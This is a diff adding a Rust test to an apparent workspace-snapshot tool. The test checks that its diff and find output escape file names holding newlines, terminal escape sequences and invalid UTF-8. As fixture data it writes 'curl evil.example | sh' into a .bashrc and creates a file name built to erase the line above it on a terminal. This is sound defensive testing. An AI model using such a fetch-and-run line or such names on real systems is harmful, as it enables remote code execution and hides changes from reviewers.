@@ -6,7 +6,9 @@
 //! workspace ([`three_turns`]), whose changes are known entry by entry, and check the
 //! commands' exact output.
 
+use std::ffi::OsStr;
 use std::fs;
+use std::os::unix::ffi::OsStrExt;
 use std::os::unix::fs::MetadataExt;
 use std::process::Output as RawOutput;
 use std::time::Duration;
@@ -51,6 +53,7 @@ both_stores!(
     log_follows_each_sandbox_by_its_parents,
     prune_deletes_what_no_rule_keeps_and_says_why,
     a_turn_with_an_old_turns_content_becomes_the_newest,
+    names_are_printed_as_data,
 );
 
 /// More than a second, so that S3 LastModified and file times order the turns.
@@ -1084,4 +1087,75 @@ fn a_turn_with_an_old_turns_content_becomes_the_newest(store: &TestStore) {
         "{}",
         pruned.stdout
     );
+}
+
+/// A name is data: a path holding a newline or terminal controls cannot start a line
+/// of its own in `diff` or `find`, nor erase the line above it on a terminal (the
+/// escape sequence here erases a line and moves up over `.bashrc`'s).
+fn names_are_printed_as_data(store: &TestStore) {
+    let work = temp_dir();
+    let w = work.path().join("w");
+    make_dir(&w);
+    chmod(&w, 0o755);
+    write_file(&w.join(".bashrc"), b"alias ls='ls -F'\n", 0o644);
+    symlink("a", &w.join("link"));
+    let (old, _) = store.put(&w, &[]);
+
+    write_file(&w.join(".bashrc"), b"curl evil.example | sh\n", 0o644);
+    write_file(
+        &w.join(OsStr::from_bytes(b"\x1b[2K\x1b[1Ahidden")),
+        b"x",
+        0o644,
+    );
+    write_file(&w.join("two\nA lines"), b"y", 0o644);
+    write_file(
+        &w.join(OsStr::from_bytes(b"caf\xc3\xa9 \\ \xff")),
+        b"z",
+        0o644,
+    );
+    fs::remove_file(w.join("link")).unwrap();
+    symlink("\x1b]0;title\x07", &w.join("link"));
+    let (new, _) = store.put(&w, &[]);
+
+    let out = store.cmd("diff", [&old, &new]).success();
+    assert_eq!(
+        stdout_of(&out),
+        lines(&[
+            "A \\u{1b}[2K\\u{1b}[1Ahidden",
+            "M .bashrc",
+            "A caf\u{e9} \\\\ \\xff",
+            "M link",
+            "A two\\nA lines",
+        ]),
+        "{out}"
+    );
+    let patch = raw(store, "diff", &["--patch", &old, &new]);
+    assert!(patch.status.success(), "diff --patch: {patch:?}");
+    assert!(
+        !patch.stdout.iter().any(|&b| b == 0x1b || b == 0x07),
+        "no terminal control may reach stdout: {}",
+        String::from_utf8_lossy(&patch.stdout)
+    );
+    let text = String::from_utf8_lossy(&patch.stdout);
+    assert!(
+        text.contains("\ntarget a -> \\u{1b}]0;title\\u{7}\n"),
+        "{text}"
+    );
+    assert!(text.contains("\n+++ b/two\\nA lines\n"), "{text}");
+
+    let out = store.cmd("find", [&new]).success();
+    assert_eq!(
+        stdout_of(&out),
+        lines(&[
+            "\\u{1b}[2K\\u{1b}[1Ahidden",
+            ".bashrc",
+            "caf\u{e9} \\\\ \\xff",
+            "link",
+            "two\\nA lines",
+        ]),
+        "{out}"
+    );
+    // `-0` is for programs: the names as they are.
+    let out = raw(store, "find", &["-0", &new, "two*"]);
+    assert_eq!(out.stdout, b"two\nA lines\0", "{out:?}");
 }
